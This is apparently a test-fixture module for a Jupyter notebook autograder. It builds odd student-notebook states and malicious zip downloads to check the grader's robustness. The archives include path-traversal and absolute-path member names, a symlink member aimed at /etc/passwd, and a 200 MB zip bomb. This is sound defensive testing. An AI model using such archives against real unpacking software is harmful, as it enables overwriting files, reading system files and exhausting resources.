for _name, _why, _text in (
    (
        "directory_gone",
        "the working directory is changed and gone",
        "import os\nos.mkdir('/tmp/gone'); os.chdir('/tmp/gone'); os.rmdir('/tmp/gone')",
    ),
    ("stdout_closed", "no stdout", "import sys\nsys.stdout.close()\nsys.stderr = None"),
    (
        "stdout_utf_16",
        "another encoding",
        "import sys, os\nos.environ['PYTHONIOENCODING'] = 'utf-16'\nsys.stdout = open('/tmp/out', 'w', encoding='utf-16')",
    ),
    (
        "locale_changed",
        "a comma for the decimal point",
        "import locale\nfor name in ('de_DE.UTF-8', 'C.UTF-8', 'C'):\n    try: locale.setlocale(locale.LC_ALL, name); break\n    except locale.Error: pass",
    ),
    (
        "warnings_are_errors",
        "warnings raise in the student's own cells",
        "import warnings\nwarnings.simplefilter('error')",
    ),
    (
        "numpy_prints_badly",
        "NumPy cannot print an array any more",
        "np.set_printoptions(formatter={'all': lambda x: 1 / 0})",
    ),
    (
        "recursion_limit_high",
        "no limit to recursion, and none needed",
        "import sys\nsys.setrecursionlimit(2 ** 31 - 1)",
    ),
    (
        "recursion_limit_low",
        "hardly any recursion left",
        "import sys\nsys.setrecursionlimit(max(150, len(__import__('inspect').stack()) + 60))",
    ),
    (
        "collector_off",
        "no garbage collection, and no thread switching",
        "import gc, sys\ngc.disable(); gc.freeze(); sys.setswitchinterval(1000)",
    ),
    (
        "stack_dumps",
        "a stack dump ten times a second",
        "import faulthandler, sys\nfaulthandler.dump_traceback_later(0.1, repeat=True, file=open('/tmp/dump', 'w'))",
    ),
    (
        "plots_elsewhere",
        "another matplotlib backend",
        "import matplotlib\nmatplotlib.use('svg')\nplt.switch_backend('agg')",
    ),
    (
        "magics",
        "magic commands",
        "%autoawait off\n%config InlineBackend.figure_format = 'svg'\n%timeit -n 1 -r 1 1 + 1\n%matplotlib inline",
    ),
    (
        "threads_honest",
        "a pool of threads at work",
        "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(4) as pool: print(list(pool.map(abs, range(8))))",
    ),
    ("surrogates_printed", "half a character on stdout", "print('\\ud800')\nprint('\\0')"),
    (
        "finaliser_raises",
        "errors nobody sees",
        "class Bad:\n    def __del__(self): raise SystemExit\nBad(); bad = Bad()",
    ),
    ("cancels_loop", "an event loop that is stopped", "import asyncio\nasyncio.get_event_loop().stop()"),
    ("writefile", "files by magic", "%%writefile /tmp/helper.py\nvalue = 3"),
):
    careless(_name, "odd_state", f"{_why}: right functions stay right", _text)
attack(
    "errors_raised_by_numpy",
    "odd_state",
    "np.seterr(all='raise') turns an underflow into an error, as it would in stock grading",
    "np.seterr(all='raise')",
    work="right",
    flagged="any",
    points={name: (0, full) for name, full in POINTS[LAYERS].items()},
)
attack(
    "namespace_reset",
    "odd_state",
    "%reset in the middle takes the functions above it away; what was judged before stays judged",
    "%reset -f",
    at="two_layer_forward",
    work="right",
    flagged="any",
    points={name: (0, full) for name, full in POINTS[LAYERS].items() if name not in ("dense", "relu")},
)


def _odd_cells(nb: sample.Notebook) -> None:
    for text in (
        "x = 1\0",
        "# half a character: \ud800",
        "y = '\x1b[31m'",
        "\ufeffz = 1",
        "a = 1\r\nb = 2\r\n",
        "\f\v",
    ):
        sample.insert(nb, 2, sample.code(text))
    sample.insert(nb, 2, sample.markdown("\ud800 \0 \x1b"))


changed(
    "odd_characters",
    "odd_state",
    "null bytes, half characters and control characters in cells of the student's own",
    _odd_cells,
)
changed(
    "odd_characters_in_metadata",
    "odd_state",
    "the same in the metadata",
    lambda nb: nb["metadata"].update({"\ud800": "\0\udfff", "authors": [{"name": MARKUP}]}),
)
changed(
    "thousand_cells",
    "odd_state",
    "1,000 small cells",
    lambda nb: sample.insert(nb, 2, *[sample.code(f"v{i} = {i}") for i in range(1000)]),
)
changed(
    "cell_of_5_mb",
    "odd_state",
    "one cell of 5 MB",
    lambda nb: sample.insert(nb, 2, sample.code("text = '" + "x" * 5_000_000 + "'")),
)

hostile_output.register(changed, careless, POINTS[LAYERS])

# Names of the honest kinds: full or stated points, and never a flag.
HONEST = [name for name, kind in KINDS.items() if kind.expected.flagged == "no" and kind.expected.status == ("graded",)]


def representative(lesson: str = LAYERS) -> list[str]:
    """A class of 60 or so: twelve honest kinds, and the first of each group that is not."""
    ours = [name for name, kind in KINDS.items() if kind.lesson == lesson]
    first: dict[str, str] = {}
    for name in ours:
        if name not in HONEST:
            first.setdefault(KINDS[name].group, name)
    return sorted([name for name in ours if name in HONEST][:12] + list(first.values()), key=ours.index)


# ------------------------------------------------------------------------------------------------- LMS downloads


@dataclass(frozen=True)
class Archive:
    """A download of an LMS, as a zip file.

    Attributes:
        group: a key of LINES.
        content: the file's bytes.
        why: what has to come of it. Each archive holds one honest hand-in of `honest_1001`, which keeps its points
            unless the archive itself cannot be read.
        readable: whether the honest hand-in can be got out.
    """

    group: str
    content: bytes
    why: str
    readable: bool = True


def archives(lesson: str = LAYERS) -> dict[str, Archive]:
    """Zip files with Canvas's names (`<student>_<user>_<file>_<name>.ipynb`) and something wrong in them.

    Nothing may be written outside the folder they are unpacked into.
    """
    nb, right, stem = _lesson(lesson)
    fine = _dump(sample.fill(nb, right))
    honest = {f"honest_1001_5001_{stem}.ipynb": fine}
    evil = b"was here"
    good = _zip_of(honest)
    return {
        "plain": Archive("right", good, "an ordinary download"),
        "zip_dotdot": Archive(
            "dotdot", _zip_of(honest | {"../../../evil.ipynb": evil, "x/../../evil.py": evil}), "names that climb"
        ),
        "zip_absolute": Archive(
            "dotdot",
            _zip_of(honest | {"/tmp/bpkit-evil.ipynb": evil, "C:\\evil.ipynb": evil, "..\\..\\evil": evil}),
            "names from the root, and Windows's",
        ),
        "zip_odd_names": Archive(
            "dotdot",
            _zip_of(honest | {f"{MARKUP.replace('/', '_')}_1_2_{stem}.ipynb": fine, "a" * 300: evil, "": evil}),
            "names with markup, too long, empty",
        ),
        "zip_symlink": Archive(
            "symlink", _with_link(honest, "link_1002_5002_x.ipynb", "/etc/passwd"), "a member that is a symbolic link"
        ),
        "zip_bomb": Archive(
            "bomb", _zip_of(honest | {f"bomb_1003_5003_{stem}.ipynb": b"\0" * 2 * 10**8}), "200 MB in one member"
        ),
        "zip_many": Archive("bomb", _zip_of(honest | {f"f{i}": b"" for i in range(20_000)}), "20,000 empty members"),
        "zip_nested": Archive(
            "bomb", _zip_of(honest | {"nested_1004_5004_a.zip": _zip_of({"b.zip": good})}), "archives in archives"
        ),
        "zip_truncated": Archive("truncated", good[:-100], "cut off: one clear sentence", readable=False),
        "zip_empty": Archive("empty", b"", "0 bytes: one clear sentence", readable=False),
    }


def _with_link(members: dict[str, bytes], name: str, to: str) -> bytes:
    buffer = io.BytesIO(_zip_of(members))
    with zipfile.ZipFile(buffer, "a") as archive:
        entry = zipfile.ZipInfo(name, (2026, 2, 2, 9, 0, 0))
        entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, to)
    return buffer.getvalue()
